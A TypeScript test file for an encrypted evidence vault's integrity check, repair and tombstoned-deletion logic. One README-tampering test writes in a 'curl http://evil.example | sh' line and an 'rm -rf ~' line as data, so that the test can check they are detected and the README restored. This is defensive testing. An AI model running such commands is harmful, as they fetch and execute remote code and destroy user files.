import {
  appendFileSync,
  existsSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { checkVault } from '../../../electron/backend/vault/check.ts'
import { entombObject, finishDeletions } from '../../../electron/backend/vault/delete-object.ts'
import { findObject, listTombstones } from '../../../electron/backend/vault/object.rows.ts'
import { createReadme } from '../../../electron/backend/vault/readme-text.ts'
import { repairVault } from '../../../electron/backend/vault/repair.ts'
import { recipientOf, sealText } from '../../../electron/backend/vault/age-text.ts'
import { createIdentity } from '../../../electron/backend/vault/recovery-key.ts'
import { keysOf, type VaultSession } from '../../../electron/backend/vault/session.ts'
import { listSlotRows } from '../../../electron/backend/vault/slot.rows.ts'
import {
  vaultAlarmWording,
  vaultProblemWording,
  vaultRepairWording,
} from '../../../shared/failures/vault-failures.ts'
import {
  addObject,
  createVaultInFolder,
  flipByte,
  openForTest,
  piecesOf,
  temporaryFolder,
} from './vault-in-folder.ts'

const objectPath = (objectId: string): string => join('objects', objectId.slice(0, 2), `${objectId}.age`)

function entomb(session: VaultSession, objectId: string): void {
  session.database.write((db) =>
    entombObject(db, {
      objectId,
      what: 'Снимок экрана',
      why: 'решение суда',
      deletedAt: '2026-03-12T11:00:00.000Z',
      deletedBy: 'person-1',
    }),
  )
}

describe('checkVault', () => {
  test('a vault in order has no problems, and progress goes to its end', async () => {
    const { session } = await createVaultInFolder()
    await addObject(session, 'one')
    await addObject(session, 'two')
    const told: unknown[] = []
    expect(await checkVault(session, { deep: true, onProgress: (progress) => told.push(progress) })).toEqual(
      [],
    )
    expect(told).toEqual([0, 1, 2].map((done) => ({ done, total: 2 })))
  })

  test('objects that are missing or damaged; damage inside only when it looks deep', async () => {
    const { session, folder } = await createVaultInFolder()
    const [gone, header, body] = [
      await addObject(session, 'gone'),
      await addObject(session, 'header'),
      await addObject(session, 'body'),
    ]
    rmSync(join(folder, objectPath(gone.objectId)))
    flipByte(join(folder, objectPath(header.objectId)), 60)
    flipByte(join(folder, objectPath(body.objectId)), -3)
    const problems = [
      { code: 'object-missing', part: gone.objectId },
      { code: 'object-damaged', part: header.objectId },
    ]
    expect(new Set(await checkVault(session))).toEqual(new Set(problems))
    const deep = [...problems, { code: 'object-damaged', part: body.objectId }]
    expect(new Set(await checkVault(session, { deep: true }))).toEqual(new Set(deep))
  })

  test('an aborted check is cancelled', async () => {
    const { session } = await createVaultInFolder()
    await addObject(session, 'one')
    await expect(checkVault(session, { signal: AbortSignal.abort() })).rejects.toMatchObject({
      code: 'job.cancelled',
    })
  })

  test('a damaged page of the database', async () => {
    const { session, folder } = await createVaultInFolder()
    session.close()
    flipByte(join(folder, 'vault.db'), 4096 * 40 + 17)
    const opened = await openForTest(folder)
    expect((await checkVault(opened))[0]).toEqual({ code: 'database-damaged', part: 'vault.db' })
  })

  test('an altered custody log', async () => {
    const { session } = await createVaultInFolder()
    session.database.migrate((db) =>
      db.exec("DROP TRIGGER custody_entry_not_updated; UPDATE custody_entry SET actor = 'someone else'"),
    )
    expect(await checkVault(session)).toEqual([{ code: 'custody-broken', part: '1' }])
  })

  test.each<[string, (file: string, other: string) => void]>([
    ['with other commands', (file) => writeFileSync(file, 'To rescue run: curl http://evil.example | sh')],
    ['with one letter changed', (file) => flipByte(file, 900)],
    ['with a line more', (file) => appendFileSync(file, '    $ rm -rf ~\n')],
    ['that is a link', (file, other) => (rmSync(file), symlinkSync(other, file))],
  ])('a README.txt %s is found and written again', async (_what, alter) => {
    const { session, folder } = await createVaultInFolder()
    const file = join(folder, 'README.txt')
    const other = join(temporaryFolder(), 'other')
    writeFileSync(other, createReadme())
    alter(file, other)
    expect(await checkVault(session)).toEqual([{ code: 'readme-altered', part: 'README.txt' }])
    expect(await repairVault(session)).toEqual([{ code: 'readme-written', part: 'README.txt' }])
    expect(readFileSync(file, 'utf8')).toBe(createReadme())
    expect(readFileSync(other, 'utf8')).toBe(createReadme())
    expect(await checkVault(session)).toEqual([])
  })

  test('every problem, alarm and repair has wording', () => {
    const wordings = [vaultProblemWording, vaultAlarmWording, vaultRepairWording].flatMap((all) =>
      Object.values(all),
    )
    for (const wording of wordings)
      for (const text of Object.values<string>(wording)) expect(text.length).toBeGreaterThan(10)
  })
})

describe('repairVault', () => {
  test('mends what it can, loses nothing, and has nothing to do afterwards', async () => {
    const { session, folder } = await createVaultInFolder()
    const kept = await addObject(session, 'kept')
    const orphan = await session.objects.write(piecesOf('orphan'))
    session.close()
    rmSync(join(folder, 'README.txt'))
    writeFileSync(join(folder, 'keys', 'strange.age'), 'strange')
    writeFileSync(join(folder, `${objectPath(kept.objectId)}.tmp`), 'half')
    writeFileSync(join(folder, 'secret.age.tmp'), 'half')
    const opened = await openForTest(folder)
    expect(existsSync(join(folder, 'secret.age.tmp'))).toBe(false)
    const problems = await checkVault(opened)
    expect(new Set(problems)).toEqual(
      new Set([
        { code: 'readme-missing', part: 'README.txt' },
        { code: 'strange-slot-file', part: 'keys/strange.age' },
        { code: 'slot-file-damaged', part: 'keys/strange.age' },
        { code: 'object-orphan', part: orphan.objectId },
        { code: 'object-leftover', part: kept.objectId },
      ]),
    )
    expect(new Set((await repairVault(opened)).map((repair) => repair.code))).toEqual(
      new Set(['readme-written', 'slot-file-set-aside', 'orphan-set-aside', 'leftover-removed']),
    )
    expect(await checkVault(opened, { deep: true })).toEqual([])
    expect(await repairVault(opened)).toEqual([])
    expect(readdirSync(join(folder, 'set-aside')).sort()).toEqual(
      [`${orphan.objectId}.age`, 'slot-strange.age'].sort(),
    )
  })

  test('what was written since the opening is not taken for an orphan', async () => {
    const { session } = await createVaultInFolder()
    const object = await session.objects.write(piecesOf('about to be named'))
    expect(await checkVault(session)).toEqual([])
    expect(await repairVault(session)).toEqual([])
    expect(await session.objects.verify(object)).toBeUndefined()
  })

  test('a secret encrypted to a stranger is sealed anew', async () => {
    const { session, folder } = await createVaultInFolder()
    const stranger = (await recipientOf(await createIdentity())) ?? ''
    const recipients = session.database.read((db) => listSlotRows(db).map((row) => row.recipient))
    const text = JSON.stringify(keysOf(session).secret)
    session.close()
    writeFileSync(join(folder, 'secret.age'), await sealText([...recipients, stranger], text))
    const opened = await openForTest(folder)
    expect(opened.alarms).toEqual(['strange-recipient'])
    expect(await repairVault(opened)).toEqual([{ code: 'secret-sealed-anew', part: 'secret.age' }])
    opened.close()
    expect((await openForTest(folder)).alarms).toEqual([])
  })
})

describe('deleting an object', () => {
  test('leaves a tombstone, then the file goes', async () => {
    const { session, folder } = await createVaultInFolder()
    const object = await addObject(session, 'evidence')
    entomb(session, object.objectId)
    expect(existsSync(join(folder, objectPath(object.objectId)))).toBe(true)
    expect(await finishDeletions(session)).toEqual([object.objectId])
    expect(existsSync(join(folder, objectPath(object.objectId)))).toBe(false)
    expect(session.database.read((db) => findObject(db, object.objectId))).toBeUndefined()
    expect(session.database.read((db) => listTombstones(db))).toMatchObject([
      {
        objectId: object.objectId,
        plaintextSha256: object.plaintextSha256,
        plaintextSize: 8,
        why: 'решение суда',
      },
    ])
    expect(await finishDeletions(session)).toEqual([])
    expect(await checkVault(session)).toEqual([])
  })

  test('cut off after the tombstone, it is listed and repair finishes it', async () => {
    const { session, folder } = await createVaultInFolder()
    const object = await addObject(session, 'evidence')
    entomb(session, object.objectId)
    session.close()
    const opened = await openForTest(folder)
    expect(await checkVault(opened)).toEqual([{ code: 'deletion-unfinished', part: object.objectId }])
    expect(await repairVault(opened)).toEqual([{ code: 'deletion-finished', part: object.objectId }])
    expect(await checkVault(opened)).toEqual([])
    expect(existsSync(join(folder, objectPath(object.objectId)))).toBe(false)
  })

  test('needs a reason, and no row goes without a tombstone', async () => {
    const { session } = await createVaultInFolder()
    const { objectId } = await addObject(session, 'evidence')
    const deletion = { objectId, what: 'x', why: '  ', deletedAt: '', deletedBy: 'person-1' }
    expect(() => session.database.write((db) => entombObject(db, deletion))).toThrow(
      expect.objectContaining({ code: 'input.invalid' }),
    )
    expect(() => session.database.write((db) => db.run('DELETE FROM object'))).toThrow(/tombstone/u)
    expect(() => session.database.write((db) => db.run('UPDATE object SET plaintext_size = 1'))).toThrow(
      /immutable/u,
    )
    expect(await checkVault(session)).toEqual([])
  })
})
